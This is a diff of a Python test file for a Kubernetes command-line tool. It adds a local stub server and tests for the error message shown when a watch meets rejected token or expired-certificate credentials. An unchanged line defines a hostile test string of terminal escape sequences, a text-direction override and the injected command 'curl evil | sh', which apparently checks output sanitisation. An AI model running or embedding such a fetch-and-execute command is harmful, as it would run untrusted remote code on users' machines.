@@ -4,14 +4,17 @@ from __future__ import annotations
 
 import json
 import threading
+from base64 import b64encode
 from collections.abc import Iterator
 from contextlib import contextmanager, suppress
+from datetime import UTC, datetime
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
 
 from cli.terminals import environment, piped, terminal
+from client.foreign import Authority
 from sully.cli.output.text import guarded
 
 HOSTILE = "no\x1b[2J\x1b]0;title\x07\x9b8m\u202e\rforged\n  run: curl evil | sh"
@@ -50,9 +53,45 @@ class _Page(BaseHTTPRequestHandler):
     def log_message(self, *_: object) -> None: ...
 
 
+class _Expiring(BaseHTTPRequestHandler):
+    """Accepts the credentials for lists, and no longer for watches."""
+
+    def do_GET(self) -> None:
+        path, _, query = self.path.partition("?")
+        listed = {"kind": "List", "apiVersion": "v1", "metadata": {"resourceVersion": "1"}}
+        code: int = 404
+        answer: dict[str, object] = {"kind": "Status", "code": 404, "reason": "NotFound"}
+        answer["message"] = "the server could not find the requested resource"
+        if "watch=" in query:
+            code, answer = 401, {"kind": "Status", "code": 401, "reason": "Unauthorized"}
+            answer["message"] = "Unauthorized"
+        elif path == "/version":
+            code, answer = 200, {"gitVersion": "v1.37.0+sully-0.1.0"}
+        elif path.startswith(("/apis/resource.k8s.io/v1/", "/api/v1/")):
+            code, answer = 200, {**listed, "items": []}
+        body = json.dumps(answer).encode()
+        self.send_response(code)
+        self.send_header("content-type", "application/json")
+        self.send_header("content-length", str(len(body)))
+        self.end_headers()
+        with suppress(BrokenPipeError, ConnectionResetError):
+            self.wfile.write(body)
+
+    def log_message(self, *_: object) -> None: ...
+
+
+def ended_certificate() -> dict[str, str]:
+    """Return a user of a kubeconfig whose client certificate has expired."""
+    certificate, key = Authority().issue("late", ends=datetime(2020, 1, 2, tzinfo=UTC))
+    return {
+        "client-certificate-data": b64encode(certificate).decode(),
+        "client-key-data": b64encode(key).decode(),
+    }
+
+
 @contextmanager
-def _served(handler: type[BaseHTTPRequestHandler], path: Path) -> Iterator[None]:
-    """Run a server, and write a kubeconfig for it."""
+def _served(handler: type[BaseHTTPRequestHandler], path: Path, **user: str) -> Iterator[str]:
+    """Run a server, and write a kubeconfig for it; yield its address."""
     server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
@@ -62,12 +101,12 @@ def _served(handler: type[BaseHTTPRequestHandler], path: Path) -> Iterator[None]
             {
                 "clusters": [{"name": "a", "cluster": {"server": url}}],
                 "contexts": [{"name": "a", "context": {"cluster": "a", "user": "a"}}],
-                "users": [{"name": "a", "user": {}}],
+                "users": [{"name": "a", "user": user}],
                 "current-context": "a",
             }
         )
     )
-    yield
+    yield url
     server.shutdown()
     server.server_close()
     thread.join()
@@ -94,6 +133,28 @@ def test_what_is_no_api_server(arguments: tuple[str, ...], tmp_path: Path) -> No
     assert ran.stderr.endswith(
         "\n  check that this is a Kubernetes API server, and the right kubeconfig for it\n"
     )
+
+
+USERS = {
+    "a token": ({"token": "old"}, "renew them, or select another context with --context"),
+    "a certificate": (
+        ended_certificate(),
+        "the client certificate in the kubeconfig expired at 2020-01-02T00:00:00Z; renew it",
+    ),
+}
+
+
+@pytest.mark.parametrize(("user", "advice"), USERS.values(), ids=USERS)
+@pytest.mark.parametrize("command", ["devices", "evictions", "status"])
+def test_a_watch_ends_when_the_credentials_are_rejected(
+    command: str, user: dict[str, str], advice: str, tmp_path: Path
+) -> None:
+    path = tmp_path / "kubeconfig"
+    with _served(_Expiring, path, **user) as server:
+        ran = piped(command, "--watch", env=environment(path))
+
+    rejected = f'{server} rejected the credentials of context "a" in {path}'
+    assert (ran.returncode, ran.stderr) == (1, f"error: Unauthorized: {rejected}\n  {advice}\n")
 
 
 COMMANDS = {
